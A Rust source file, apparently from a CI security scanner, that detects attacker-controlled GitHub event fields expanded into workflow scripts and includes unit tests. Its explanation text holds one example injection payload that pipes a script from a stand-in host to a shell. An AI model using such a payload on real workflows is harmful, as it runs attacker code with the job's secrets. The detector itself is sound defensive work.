//! Attacker-controlled contexts expanded into `run:` scripts or `actions/github-script`.

use super::{rule, self_hosted, Audit, Context, Sink};
use crate::expr;
use crate::model::{CompositeAction, Job, Pos, Step, Workflow};
use crate::report::{Confidence, Finding, RuleInfo, Severity};

rule!(
    RULE,
    "template-injection",
    High,
    "attacker-controlled expression expanded into a script"
);

/// See the module documentation.
pub struct TemplateInjection;

/// Context paths (lower case, `*` for any index) whose values outsiders choose. A path
/// matches when it equals an entry or lies below it (`github.event.issue` covers
/// `github.event.issue.title` only through the explicit entries; whole objects are listed
/// where every field is attacker-chosen).
const TAINTED: &[&str] = &[
    "github.event.issue.title",
    "github.event.issue.body",
    "github.event.pull_request.title",
    "github.event.pull_request.body",
    "github.event.pull_request.head.ref",
    "github.event.pull_request.head.label",
    "github.event.pull_request.head.repo.default_branch",
    "github.event.pull_request.head.repo.description",
    "github.event.pull_request.head.repo.homepage",
    "github.event.comment.body",
    "github.event.review.body",
    "github.event.review_comment.body",
    "github.event.discussion.title",
    "github.event.discussion.body",
    "github.event.pages.*.page_name",
    "github.event.commits.*.message",
    "github.event.commits.*.author.email",
    "github.event.commits.*.author.name",
    "github.event.head_commit.message",
    "github.event.head_commit.author.email",
    "github.event.head_commit.author.name",
    "github.event.workflow_run.head_branch",
    "github.event.workflow_run.head_commit.message",
    "github.event.workflow_run.head_commit.author.email",
    "github.event.workflow_run.head_commit.author.name",
    "github.event.workflow_run.pull_requests.*.head.ref",
    "github.head_ref",
    "github.event",
    "github.event.pull_request",
    "github.event.issue",
    "github.event.comment",
];

/// Whole objects: tainted only when expanded as a whole (e.g. `toJSON(github.event)`).
const WHOLE: &[&str] = &[
    "github.event",
    "github.event.pull_request",
    "github.event.issue",
    "github.event.comment",
];

fn matches(pattern: &str, path: &str) -> bool {
    let p: Vec<&str> = pattern.split('.').collect();
    let q: Vec<&str> = path.split('.').collect();
    p.len() == q.len()
        && p.iter()
            .zip(&q)
            .all(|(a, b)| *a == "*" || *b == "*" || a == b)
}

/// Tainted context paths expanded by `text`.
pub fn tainted_in(text: &str) -> Vec<String> {
    let mut out = Vec::new();
    for p in expr::pieces(text) {
        let expr::Piece::Expr(inner, _) = p else {
            continue;
        };
        let Ok(e) = expr::parse(inner) else { continue };
        for c in expr::value_contexts(&e) {
            let hit = TAINTED.iter().any(|t| matches(t, &c))
                && (!WHOLE.contains(&c.as_str()) || inner.to_ascii_lowercase().contains("tojson"));
            if hit && !out.contains(&c) {
                out.push(c);
            }
        }
    }
    out
}

/// The script-bearing parts of a step: `run:` or github-script's `script:`.
fn scripts(step: &Step) -> Vec<(Pos, &str, &'static str)> {
    let mut v = Vec::new();
    if let Some((p, r)) = &step.run {
        v.push((*p, r.as_str(), "run"));
    }
    if step.action().as_deref() == Some("actions/github-script") {
        if let Some((p, s)) = step.input("script") {
            v.push((p, s, "github-script"));
        }
    }
    v
}

fn build(
    audit: &TemplateInjection,
    file: &str,
    pos: Pos,
    ctxs: &[String],
    kind: &str,
    where_: &str,
) -> Finding {
    audit
        .finding(file, pos)
        .title(format!(
            "{} expanded into a {kind} script {where_}",
            ctxs.iter()
                .map(|c| format!("`{c}`"))
                .collect::<Vec<_>>()
                .join(", ")
        ))
        .explain(
            "`${{ }}` is substituted into the script text before the shell runs it, so a pull \
             request title, branch name or comment such as `a\"; curl evil.sh | sh; #` becomes \
             code. Whoever writes that text runs commands with the job's token and secrets, on \
             the runner itself.",
        )
        .fix(
            "Pass the value through an environment variable and quote it: \
             `env: TITLE: ${{ github.event.pull_request.title }}` then `\"$TITLE\"` in the \
             script (in github-script, read `context.payload` instead).",
        )
}

impl Audit for TemplateInjection {
    fn rule(&self) -> &'static RuleInfo {
        &RULE
    }

    fn step(&self, wf: &Workflow, job: &Job, step: &Step, cx: &Context<'_>, out: &mut Sink) {
        let sh = self_hosted(job, cx);
        for (pos, text, kind) in scripts(step) {
            let ctxs = tainted_in(text);
            if ctxs.is_empty() {
                continue;
            }
            let sev = match sh {
                Some(Confidence::High) | Some(Confidence::Medium) => Severity::Critical,
                Some(Confidence::Low) => Severity::High,
                None => Severity::High,
            };
            out.push(
                build(
                    self,
                    &wf.path,
                    pos,
                    &ctxs,
                    kind,
                    &format!("in job `{}`", job.id),
                )
                .severity(sev),
            );
        }
    }

    fn action_step(&self, a: &CompositeAction, step: &Step, _cx: &Context<'_>, out: &mut Sink) {
        for (pos, text, kind) in scripts(step) {
            let ctxs = tainted_in(text);
            if !ctxs.is_empty() {
                out.push(
                    build(self, &a.path, pos, &ctxs, kind, "in a composite action")
                        .confidence(Confidence::Medium),
                );
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::tainted_in;

    #[test]
    fn finds_only_value_flows() {
        assert_eq!(
            tainted_in("echo ${{ github.event.issue.title }}"),
            vec!["github.event.issue.title"]
        );
        assert!(tainted_in("echo ${{ contains(github.event.issue.title, 'x') }}").is_empty());
        assert!(tainted_in("echo ${{ github.event.issue.number }}").is_empty());
        assert!(tainted_in("echo ${{ github.event.pull_request.head.sha }}").is_empty());
        assert_eq!(
            tainted_in("echo ${{ github.event.commits[0].message }}"),
            vec!["github.event.commits.0.message"]
        );
        assert_eq!(
            tainted_in("x=${{ toJSON(github.event) }}"),
            vec!["github.event"]
        );
        assert!(tainted_in("x=${{ github.event.issue }}").is_empty());
        assert_eq!(
            tainted_in("x='${{ github.event_name == 'issue_comment' && github.event.comment.body || '' }}'"),
            vec!["github.event.comment.body"]
        );
    }
}
